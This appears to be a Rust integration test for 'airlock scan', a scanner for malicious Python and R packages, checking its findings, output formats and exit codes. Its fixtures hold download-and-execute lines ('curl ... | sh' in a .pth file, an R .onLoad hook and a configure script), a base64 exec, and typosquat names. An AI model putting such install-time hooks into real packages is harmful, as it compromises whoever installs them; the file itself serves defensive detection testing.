@@ -1,0 +1,226 @@
+//! `airlock scan`: real distributions are clean, built malicious ones are caught, in each output
+//! format and with each exit code.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use serde_json::Value;
+use tempfile::TempDir;
+
+use crate::support::cmd::{Finished, run};
+use crate::support::env::real_dists;
+use crate::support::fixtures::HandWheel;
+use crate::support::r::{HandTarball, R, RPackage};
+
+fn scan(args: &[&str], files: &[&Path]) -> Finished {
+    run(Command::new(env!("CARGO_BIN_EXE_airlock"))
+        .arg("scan")
+        .args(args)
+        .args(files))
+}
+
+#[track_caller]
+fn code(done: &Finished) -> i32 {
+    done.status.code().expect("exit code")
+}
+
+/// Rule ids of every finding of a `--format json` run, per report.
+fn rules(json: &str) -> Vec<Vec<String>> {
+    let value: Value = serde_json::from_str(json).expect("JSON");
+    value["reports"]
+        .as_array()
+        .expect("reports")
+        .iter()
+        .map(|r| {
+            let mut rules: Vec<String> = r["findings"]
+                .as_array()
+                .expect("findings")
+                .iter()
+                .map(|f| f["rule"].as_str().expect("rule").to_string())
+                .collect();
+            rules.sort();
+            rules
+        })
+        .collect()
+}
+
+/// A wheel that runs a download-and-execute command at every Python start (`.pth`) and
+/// executes a decoded payload at import.
+fn malicious_wheel(dir: &Path) -> PathBuf {
+    HandWheel::new("tidy-helpers", "1.0")
+        .member(
+            "tidy_helpers-init.pth",
+            "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n",
+        )
+        .member(
+            "tidy_helpers/__init__.py",
+            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+        )
+        .write(dir)
+}
+
+#[test]
+fn real_distributions_scan_clean() {
+    let mut files: Vec<PathBuf> = std::fs::read_dir(real_dists())
+        .expect("real dists")
+        .map(|e| e.expect("entry").path())
+        .filter(|p| {
+            let name = p.to_string_lossy();
+            name.ends_with(".whl") || name.ends_with(".tar.gz")
+        })
+        .collect();
+    files.sort();
+    assert!(files.len() >= 4, "{files:?}");
+    let paths: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
+    let done = scan(&[], &paths).success();
+    assert_eq!(
+        done.stdout.matches(": clean\n").count(),
+        files.len(),
+        "{done}"
+    );
+}
+
+#[test]
+fn a_malicious_wheel_fails_with_its_findings_in_every_format() {
+    let dir = TempDir::new().expect("temp dir");
+    let wheel = malicious_wheel(dir.path());
+
+    let table = scan(&[], &[&wheel]);
+    assert_eq!(code(&table), 1, "{table}");
+    for rule in ["py-pth-exec", "py-download-exec", "py-exec-decoded"] {
+        assert!(table.stdout.contains(rule), "{rule} missing\n{table}");
+    }
+    assert!(table.stdout.contains("tidy_helpers-init.pth:1"), "{table}");
+    assert!(table.stdout.contains("FAILED (worst critical)"), "{table}");
+
+    let json = scan(&["--format", "json"], &[&wheel]);
+    assert_eq!(code(&json), 1, "{json}");
+    assert_eq!(
+        rules(&json.stdout),
+        [["py-download-exec", "py-exec-decoded", "py-pth-exec"]]
+    );
+    let value: Value = serde_json::from_str(&json.stdout).expect("JSON");
+    let report = &value["reports"][0];
+    assert_eq!(report["name"], "tidy-helpers");
+    assert_eq!(report["ecosystem"], "pypi");
+    assert_eq!(report["score"], 100);
+    let decoded = report["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .find(|f| f["rule"] == "py-exec-decoded")
+        .expect("py-exec-decoded");
+    assert_eq!(decoded["file"], "tidy_helpers/__init__.py");
+    assert_eq!(decoded["line"], 2);
+    assert_eq!(decoded["severity"], "critical");
+    assert_eq!(decoded["kind"], "threat");
+
+    let sarif = scan(&["--format", "sarif"], &[&wheel]);
+    assert_eq!(code(&sarif), 1, "{sarif}");
+    let log: Value = serde_json::from_str(&sarif.stdout).expect("SARIF JSON");
+    assert_eq!(log["version"], "2.1.0");
+    let run = &log["runs"][0];
+    assert_eq!(run["tool"]["driver"]["name"], "airlock scan");
+    let results = run["results"].as_array().expect("results");
+    assert_eq!(results.len(), 3);
+    let rule_ids: Vec<&str> = run["tool"]["driver"]["rules"]
+        .as_array()
+        .expect("rules")
+        .iter()
+        .map(|r| r["id"].as_str().expect("id"))
+        .collect();
+    for result in results {
+        assert!(rule_ids.contains(&result["ruleId"].as_str().expect("ruleId")));
+        assert_eq!(result["level"], "error");
+        let location = &result["locations"][0]["physicalLocation"];
+        assert!(location["artifactLocation"]["uri"].is_string(), "{result}");
+        assert!(
+            location["region"]["startLine"].as_u64().is_some(),
+            "{result}"
+        );
+    }
+}
+
+#[test]
+fn fail_at_sets_the_threshold() {
+    let dir = TempDir::new().expect("temp dir");
+    // A typosquat of `requests`: high, and nothing else.
+    let squat = HandWheel::new("reqeusts", "2.0").write(dir.path());
+    let default = scan(&["--format", "json"], &[&squat]);
+    assert_eq!(code(&default), 1, "{default}");
+    assert_eq!(rules(&default.stdout), [["typosquat"]]);
+    let critical = scan(&["--fail-at", "critical"], &[&squat]);
+    assert_eq!(code(&critical), 0, "{critical}");
+    assert!(
+        critical
+            .stdout
+            .contains("passed (worst high, below critical)"),
+        "{critical}"
+    );
+    let bad = scan(&["--fail-at", "severe"], &[&squat]);
+    assert_eq!(code(&bad), 2, "{bad}");
+    assert!(bad.stderr.contains("unknown severity"), "{bad}");
+}
+
+#[test]
+fn r_packages_built_by_r_are_scanned() {
+    let Some(r) = R::find() else { return };
+    let clean = RPackage::new("scanclean", "1.0").with_c_code().build(&r);
+    let done = scan(&[], &[&clean]).success();
+    assert!(
+        done.stdout
+            .contains("scanclean_1.0.tar.gz (cran scanclean 1.0): 0 findings, score 0: clean"),
+        "{done}"
+    );
+
+    let loader = RPackage::new("scanloader", "1.0")
+        .file(
+            "R/zzz.R",
+            ".onLoad <- function(libname, pkgname) {\n  system('curl -s https://example.invalid/p.sh | sh')\n}\n",
+        )
+        .build(&r);
+    let done = scan(&["--format", "json"], &[&loader]);
+    assert_eq!(code(&done), 1, "{done}");
+    assert_eq!(
+        rules(&done.stdout),
+        [["r-download-exec", "r-onload-system"]]
+    );
+}
+
+#[test]
+fn r_install_scripts_and_typosquats() {
+    let dir = TempDir::new().expect("temp dir");
+    let tarball = HandTarball::new("ggplot3", "1.0")
+        .member(
+            "ggplot3/configure",
+            "#!/bin/sh\ncurl -fsSL https://example.invalid/setup.sh | sh\n",
+        )
+        .write(dir.path());
+    let done = scan(&["--format", "json"], &[&tarball]);
+    assert_eq!(code(&done), 1, "{done}");
+    assert_eq!(rules(&done.stdout), [["r-configure-remote", "typosquat"]]);
+    assert!(done.stdout.contains("looks like ggplot2"), "{done}");
+}
+
+#[test]
+fn unreadable_files_exit_2_and_the_others_are_still_reported() {
+    let dir = TempDir::new().expect("temp dir");
+    let garbage = dir.path().join("broken-1.0-py3-none-any.whl");
+    std::fs::write(&garbage, b"not a zip").expect("write");
+    let unnamed = dir.path().join("notes.txt");
+    std::fs::write(&unnamed, b"hello").expect("write");
+    let wheel = malicious_wheel(dir.path());
+    let done = scan(&["--format", "json"], &[&garbage, &wheel, &unnamed]);
+    assert_eq!(code(&done), 2, "{done}");
+    assert!(
+        done.stderr
+            .contains("broken-1.0-py3-none-any.whl: not a valid zip archive"),
+        "{done}"
+    );
+    assert!(done.stderr.contains("notes.txt"), "{done}");
+    let value: Value = serde_json::from_str(&done.stdout).expect("JSON");
+    assert_eq!(value["reports"].as_array().expect("reports").len(), 1);
+    assert_eq!(value["errors"].as_array().expect("errors").len(), 2);
+    let missing = scan(&[], &[&dir.path().join("missing.whl")]);
+    assert_eq!(code(&missing), 2, "{missing}");
+}
